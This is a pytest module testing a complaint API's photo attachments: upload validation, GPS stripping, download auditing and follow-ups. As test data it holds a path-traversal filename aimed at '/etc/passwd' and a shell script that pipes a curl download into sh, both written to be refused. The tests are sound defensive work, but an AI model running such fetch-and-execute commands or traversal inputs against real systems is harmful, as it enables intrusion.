"""Evidence over the API (CONTRACT.md Additions, "Evidence"): who may upload and download, what
is refused when declared, what the processor keeps (S3's event through the app's own handler,
real Pillow), what reaches whom, the audit of every download, and follow-ups with photos.
The store and the bucket are the fakes of tests/fakes_attachments.py; tests/integration/
test_attachments.py runs the same on DynamoDB and S3 (moto)."""
from __future__ import annotations

import json
from dataclasses import replace
from urllib.parse import parse_qs, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chalicelib.domain.attachments import DOWNLOAD, MAX_BYTES, upload_key
from chalicelib.wiring import container
from lampungin.localstack.uploads import object_created
from tests.app.conftest import ADMIN, CITIZEN, CITIZEN_2, INSPECTOR, staff
from tests.app.test_complaint_flow import NEW, OPD, OPERATOR, SUPERVISOR
from tests.fakes_attachments import HEIC_WITH_GPS, FakeAttachmentStore, FakeFiles, metadata_of, with_gps
from tests.generated_requests import assert_contract_error, authorization, requests, routes, seed_complaint

OPERATOR_2 = staff("operator", OPD, "operator2-dpmptsp")
JPEG = {"filename": "jalan-rusak.jpg", "content_type": "image/jpeg"}


@pytest.fixture
def files():
    return FakeFiles()


@pytest.fixture
def att(api, files):
    """`api` with attachments on: the fake store and bucket, the stage's bucket named."""
    container.override(attachments=FakeAttachmentStore(), attachment_files=files,
                       settings=replace(container.settings, attachments_bucket=files.bucket))
    return api


def file_complaint(api, **changes) -> str:
    status, body = api.post("/v1/complaints", CITIZEN, {**NEW, **changes})
    assert status == 201, body
    return body["id"]


def request(api, cid, who=CITIZEN, data=b"", **declared):
    body = {**JPEG, "size": len(data) or 1000, **declared}
    return api.post(f"/v1/complaints/{cid}/attachments", who, body)


def upload(api, files, cid, data: bytes, who=CITIZEN, **declared) -> dict:
    """Reserve, POST the bytes (the fake bucket), and let the app's S3 handler process them."""
    status, body = request(api, cid, who, data, **declared)
    assert status == 201, body
    key = body["upload"]["fields"]["key"]
    files.upload(key, data)
    process(api, files, key)
    return body


def process(api, files, key) -> list:
    event = object_created(files.bucket, key, size=files.size(key) or 0)
    answer = api.client.lambda_.invoke("process_upload", event)
    return answer.payload["outcomes"]


def listed(api, cid, who=CITIZEN) -> list:
    status, body = api.get(f"/v1/complaints/{cid}/attachments", who)
    assert status == 200, body
    return body


# --- reserving an upload -----------------------------------------------------------------------------
def test_the_owner_gets_a_presigned_post_for_a_key_it_did_not_choose(att, files, clock):
    cid = file_complaint(att)
    status, body = request(att, cid, size=2048, filename="../../etc/passwd.jpg")
    assert status == 422                                # a name with a path is refused outright
    status, body = request(att, cid, size=2048)
    assert status == 201, body
    assert body["id"].startswith("att-") and body["status"] == "pending" and body["url"] is None
    fields = body["upload"]["fields"]
    assert fields["key"] == upload_key(cid, body["id"]) and fields["Content-Type"] == "image/jpeg"
    assert (fields["x-test-size"], fields["x-test-expires-in"]) == ("2048", "900")
    assert body["expires_at"] == "2026-11-27T02:15:00Z"            # 15 minutes after the clock
    [shown] = listed(att, cid)                         # the uploader sees it, pending
    assert (shown["id"], shown["status"], shown["url"], shown["size"]) == (body["id"], "pending", None, 2048)


@pytest.mark.parametrize(("declared", "field", "code"), [
    ({"size": MAX_BYTES + 1}, "size", "file_too_large"),
    ({"size": 0}, "size", "out_of_range"),
    ({"content_type": "text/x-shellscript", "filename": "run.jpg"}, "content_type", "not_allowed_value"),
    ({"content_type": "image/png", "filename": "foto.pdf"}, "filename", "extension_mismatch"),
    ({"content_type": "application/pdf", "filename": "surat.jpg"}, "filename", "extension_mismatch"),
    ({"filename": ".jpg"}, "filename", "invalid_filename"),
    ({"size": "10"}, "size", "wrong_type"),
    ({"sha": "x"}, "sha", "unknown_field"),
])
def test_what_cannot_be_accepted_is_refused_before_any_upload(att, files, declared, field, code):
    cid = file_complaint(att)
    status, body = request(att, cid, **declared)
    assert status == 422 and body["error"]["code"] == "validation_failed", body
    assert (body["error"]["details"][0]["field"], body["error"]["details"][0]["code"]) == (field, code)
    assert not files.forms and listed(att, cid) == []


def test_errors_are_in_the_callers_language(att):
    cid = file_complaint(att)
    _, body = att.call("POST", f"/v1/complaints/{cid}/attachments", CITIZEN, {**JPEG, "size": MAX_BYTES + 1},
                       headers={"Accept-Language": "en"})
    assert body["error"]["details"][0]["message"] == "The file is too large (at most 10485760 bytes, 10 MB)."
    _, body = request(att, cid, size=MAX_BYTES + 1)
    assert body["error"]["details"][0]["message"].startswith("Berkas terlalu besar")


@pytest.mark.parametrize(("who", "expected"), [
    (CITIZEN, 201), (OPERATOR, 201), (CITIZEN_2, 404), (staff("operator", "DINKES"), 404),
    (SUPERVISOR, 403), (INSPECTOR, 403), (ADMIN, 403)])
def test_who_may_attach(att, who, expected):
    cid = file_complaint(att)
    status, body = request(att, cid, who)
    assert status == expected, body


def test_at_most_ten_per_complaint_and_a_closed_complaint_takes_none(att):
    cid = file_complaint(att)
    assert [request(att, cid)[0] for _ in range(10)] == [201] * 10
    status, body = request(att, cid, OPERATOR)
    assert status == 409 and body["error"]["code"] == "attachment_limit_reached", body
    assert "10" in body["error"]["message"]
    other = file_complaint(att)
    att.post(f"/v1/complaints/{other}/reject", SUPERVISOR, {"reason": "Bukan kewenangan."})
    status, body = request(att, other)
    assert status == 409 and body["error"]["code"] == "wrong_state"


def test_an_abandoned_upload_gives_its_slot_back_after_it_expires(att, clock):
    cid = file_complaint(att)
    for _ in range(10):
        request(att, cid)
    assert request(att, cid)[0] == 409
    clock.advance(hours=1, minutes=1)                 # 15 min to upload + 45 min to process
    assert request(att, cid)[0] == 201
    assert len(listed(att, cid)) == 1                 # the abandoned ones are no longer shown


def test_without_a_bucket_the_stage_keeps_no_attachments(api):
    cid = file_complaint(api)
    status, body = request(api, cid)
    assert status == 403 and body["error"]["code"] == "attachments_disabled"
    assert api.get(f"/v1/complaints/{cid}/attachments", CITIZEN) == (200, [])


# --- processing --------------------------------------------------------------------------------------
def test_a_photo_is_served_without_its_location_or_camera_and_hashed(att, files):
    cid = file_complaint(att)
    raw = with_gps("JPEG")
    assert metadata_of(raw)["gps"] and metadata_of(raw)["exif"]
    a = upload(att, files, cid, raw)
    [shown] = listed(att, cid)
    assert shown["status"] == "ready" and shown["content_type"] == "image/jpeg"
    served = files.objects[f"files/{cid}/{a['id']}"][0]
    assert metadata_of(served)["gps"] == {} and metadata_of(served)["exif"] == {}
    assert upload_key(cid, a["id"]) not in files.objects          # the original (with GPS) is gone
    assert shown["size"] == len(served)
    [stored] = container.attachments.list(cid)
    assert stored.phash and len(stored.phash) == 16


def test_heic_is_decoded_stripped_and_served_as_jpeg(att, files):
    cid = file_complaint(att)
    raw = HEIC_WITH_GPS.read_bytes()
    assert metadata_of(raw)["gps"]
    a = upload(att, files, cid, raw, filename="IMG_0042.HEIC", content_type="image/heic")
    [shown] = listed(att, cid)
    assert (shown["status"], shown["content_type"], shown["filename"]) == ("ready", "image/jpeg", "IMG_0042.HEIC")
    assert parse_qs(urlsplit(shown["url"]).query)["filename"] == ["IMG_0042.jpg"]
    served = files.objects[f"files/{cid}/{a['id']}"][0]
    assert metadata_of(served)["format"] == "JPEG" and metadata_of(served)["gps"] == {}


@pytest.mark.parametrize(("data", "declared", "reason"), [
    (with_gps("PNG"), {"filename": "bukti.pdf", "content_type": "application/pdf"}, "type_mismatch"),
    (b"#!/bin/sh\ncurl http://x | sh\n", {"filename": "foto.jpg"}, "unknown_type"),
    (with_gps("PNG"), {"filename": "foto.jpg"}, "type_mismatch"),
    (b"\xff\xd8\xff\xe0" + b"\x00" * 300, {"filename": "rusak.jpg"}, "unreadable"),
])
def test_bytes_that_are_not_what_was_declared_are_rejected_and_deleted(att, files, data, declared, reason):
    cid = file_complaint(att)
    a = upload(att, files, cid, data, **declared)
    [shown] = listed(att, cid)
    assert (shown["status"], shown["reason"], shown["url"]) == ("rejected", reason, None)
    assert not [k for k in files.objects if a["id"] in k]
    assert request(att, cid)[0] == 201               # a rejected upload gives its slot back


def test_more_bytes_than_declared_are_rejected_whatever_the_bucket_let_through(att, files):
    cid = file_complaint(att)
    status, body = request(att, cid, size=100)
    files.upload(body["upload"]["fields"]["key"], with_gps("JPEG"))
    assert process(att, files, body["upload"]["fields"]["key"]) == ["rejected:size_mismatch"]


def test_processing_twice_changes_nothing_and_a_re_upload_is_not_kept(att, files):
    cid = file_complaint(att)
    a = upload(att, files, cid, with_gps("JPEG"))
    key = a["upload"]["fields"]["key"]
    served = files.objects[f"files/{cid}/{a['id']}"]
    files.upload(key, with_gps("PNG"))                # the form is still valid: a second POST
    assert process(att, files, key) == ["ignored"]
    assert key not in files.objects and files.objects[f"files/{cid}/{a['id']}"] == served
    assert process(att, files, "uploads/ADU-261127-AAAAAAA/not-ours") == ["ignored"]


# --- downloads -----------------------------------------------------------------------------------------
def test_whoever_sees_the_complaint_gets_a_five_minute_url_of_the_clean_copy(att, files, clock):
    cid = file_complaint(att)
    a = upload(att, files, cid, with_gps("JPEG"))
    for who in (CITIZEN, OPERATOR, SUPERVISOR, INSPECTOR, ADMIN):
        [shown] = listed(att, cid, who)
        url = urlsplit(shown["url"])
        assert url.path == f"/files/{cid}/{a['id']}"      # the sanitised copy, never the upload
        assert parse_qs(url.query)["expires_in"] == ["300"]
        assert shown["url_expires_at"] == "2026-11-27T02:05:00Z"
        assert set(shown) >= {"id", "filename", "content_type", "size", "uploaded_by_role", "url", "url_expires_at"}
        assert shown["uploaded_by_role"] == "citizen"
    for who in (CITIZEN_2, staff("operator", "DINKES")):
        status, body = att.get(f"/v1/complaints/{cid}/attachments", who)
        assert status == 404 and body["error"]["code"] == "not_found"
    assert att.get(f"/v1/complaints/{cid}/attachments")[0] == 401


def test_every_download_is_audited_staff_by_name_citizens_by_role(att, files):
    cid = file_complaint(att)
    upload(att, files, cid, with_gps("JPEG"))
    upload(att, files, cid, with_gps("PNG"), filename="foto.png", content_type="image/png")
    listed(att, cid, OPERATOR)
    listed(att, cid, CITIZEN)
    downloads = [e for e in container.audit.all() if e.action == DOWNLOAD]
    assert len(downloads) == 4 and {e.complaint_id for e in downloads} == {cid}
    assert sorted((e.actor_role, e.actor_id) for e in downloads) == [
        ("citizen", None), ("citizen", None), ("operator", OPERATOR[0]), ("operator", OPERATOR[0])]
    _, trail = att.get(f"/v1/audit?complaint={cid}", INSPECTOR)
    assert sum(1 for e in trail["items"] if e["action"] == DOWNLOAD) == 4


def test_pending_and_rejected_uploads_reach_only_their_uploader(att, files):
    cid = file_complaint(att)
    request(att, cid, OPERATOR)                                      # pending, the operator's
    upload(att, files, cid, b"not an image", filename="x.jpg")        # rejected, the citizen's
    assert [a["status"] for a in listed(att, cid, OPERATOR)] == ["pending"]
    assert [a["status"] for a in listed(att, cid, CITIZEN)] == ["rejected"]
    assert listed(att, cid, INSPECTOR) == [] and not [e for e in container.audit.all() if e.action == DOWNLOAD]


def test_on_a_public_complaint_other_citizens_see_the_evidence(att, files):
    cid = file_complaint(att, visibility="public")
    upload(att, files, cid, with_gps("JPEG"))
    [shown] = listed(att, cid, CITIZEN_2)
    assert shown["url"]


# --- follow-ups with photos of the work done -----------------------------------------------------------
def test_a_follow_up_carries_the_followers_own_processed_photos(att, files):
    cid = file_complaint(att)
    photo = upload(att, files, cid, with_gps("JPEG"), OPERATOR)
    status, body = att.post(f"/v1/complaints/{cid}/followups", OPERATOR,
                            {"message": "Jalan sudah ditambal.", "attachments": [photo["id"]]})
    assert status == 200 and body["status"] == "followed_up", body
    _, timeline = att.get(f"/v1/complaints/{cid}/timeline", CITIZEN)
    [event] = [e for e in timeline if e["type"] == "followed_up"]
    assert event["data"] == {"attachments": [photo["id"]]}            # never the hashes
    [stored] = [e for e in container.repo.timeline(cid) if e.type == "followed_up"]
    assert stored.data["photo_hashes"] == {photo["id"]: container.attachments.list(cid)[0].phash}
    [shown] = listed(att, cid, CITIZEN)
    assert shown["uploaded_by_role"] == "operator" and shown["url"]


def test_a_follow_up_refuses_photos_not_the_followers_own_or_not_processed(att, files):
    cid = file_complaint(att)
    citizens = upload(att, files, cid, with_gps("JPEG"))
    colleague = upload(att, files, cid, with_gps("JPEG"), OPERATOR_2)
    _, pending = request(att, cid, OPERATOR)
    other = file_complaint(att)
    elsewhere = upload(att, files, other, with_gps("JPEG"), OPERATOR)
    mine = upload(att, files, cid, with_gps("JPEG"), OPERATOR)
    for ids, field in (([citizens["id"]], "attachments.0"), ([mine["id"], colleague["id"]], "attachments.1"),
                       ([pending["id"]], "attachments.0"), ([elsewhere["id"]], "attachments.0"),
                       (["att-NOPE"], "attachments.0")):
        status, body = att.post(f"/v1/complaints/{cid}/followups", OPERATOR,
                                {"message": "Selesai.", "attachments": ids})
        assert status == 422 and body["error"]["details"][0] == {
            "field": field, "code": "attachment_not_usable", "message": body["error"]["details"][0]["message"]}, ids
    status, body = att.post(f"/v1/complaints/{cid}/followups", OPERATOR,
                            {"message": "Selesai.", "attachments": [mine["id"], mine["id"]]})
    assert status == 422 and body["error"]["details"][0]["code"] == "duplicate"
    status, body = att.post(f"/v1/complaints/{cid}/followups", CITIZEN, {"message": "x", "attachments": [mine["id"]]})
    assert status == 403                               # who may follow up is decided before the photos
    assert att.get(f"/v1/complaints/{cid}", ADMIN)[1]["status"] == "assigned"


# --- no input gives a 5xx ------------------------------------------------------------------------------
BODIES = st.fixed_dictionaries({}, optional={
    "filename": st.one_of(st.sampled_from(["a.jpg", "b.HEIC", "c.pdf", "../d.png", "é.webp", ".x"]), st.text()),
    "content_type": st.one_of(st.sampled_from(["image/jpeg", "image/heic", "application/pdf", "text/html"]),
                              st.text(max_size=80)),
    "size": st.one_of(st.integers(), st.floats(allow_nan=False), st.text(max_size=5)),
    "message": st.text(max_size=20), "attachments": st.lists(st.text(max_size=70), max_size=12)})


@pytest.fixture
def seeded(att):
    seed_complaint(att)
    return att


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(data=st.data())
def test_attachment_routes_never_5xx(seeded, data):
    """tests/app/test_no_5xx.py throws generated requests at every route with attachments off;
    here they hit these routes with attachments on, the bodies often close to valid."""
    table = [r for r in routes() if r[0].endswith(("/attachments", "/followups"))]
    req = data.draw(requests(data.draw(st.sampled_from(("path", "query", "headers", "claims", "body", "all"))),
                             table=table))
    if req.method == "POST" and data.draw(st.booleans()):
        req.body = json.dumps(data.draw(BODIES)).encode()
    headers = {"Content-Type": "application/json", **req.headers}
    auth = authorization(seeded.keys, req.caller)
    if auth:
        headers["Authorization"] = auth
    resp = seeded.client.http.request(req.method, req.path, headers=headers, body=req.body or b"")
    raw = resp.body.decode("utf-8", "replace") if isinstance(resp.body, bytes) else str(resp.body or "")
    try:
        body = json.loads(raw) if raw else None
    except ValueError:
        body = None
    assert_contract_error(resp.status_code, body, raw, auth)
